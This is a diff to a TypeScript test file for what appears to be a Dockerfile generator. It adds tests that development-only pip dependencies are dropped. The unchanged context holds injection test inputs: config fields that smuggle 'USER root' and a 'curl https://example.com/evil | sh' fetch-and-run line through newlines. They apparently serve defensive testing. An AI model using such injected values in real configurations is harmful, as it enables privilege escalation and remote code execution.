@@ -425,6 +425,15 @@ test.each<[string, ImageSketch, BaseTechniqueId, readonly string[]]>([
 });
 
 test.each([
+  ['pip install -r requirements.txt -r requirements-dev.txt', 'pip install -r requirements.txt\n'],
+  ['pip install -r requirements/dev.txt', 'pip install -r requirements.txt\n'],
+  ['pip install -e .[server,dev]', 'pip install ".[server]"\n'],
+  ['pip install .[test]', 'pip install "."\n'],
+])('leaves out what development alone needs: %s', (script, line) => {
+  expect(dockerfile({ runtime: 'python', own: [run(script)] })).toContain(line);
+});
+
+test.each([
   [{ Entrypoint: ['/a\nUSER root\nb.sh'] }],
   [{ WorkingDir: '/app\nRUN curl https://example.com/evil | sh' }],
   [{ ExposedPorts: { '80/tcp\nUSER root': {} } }],
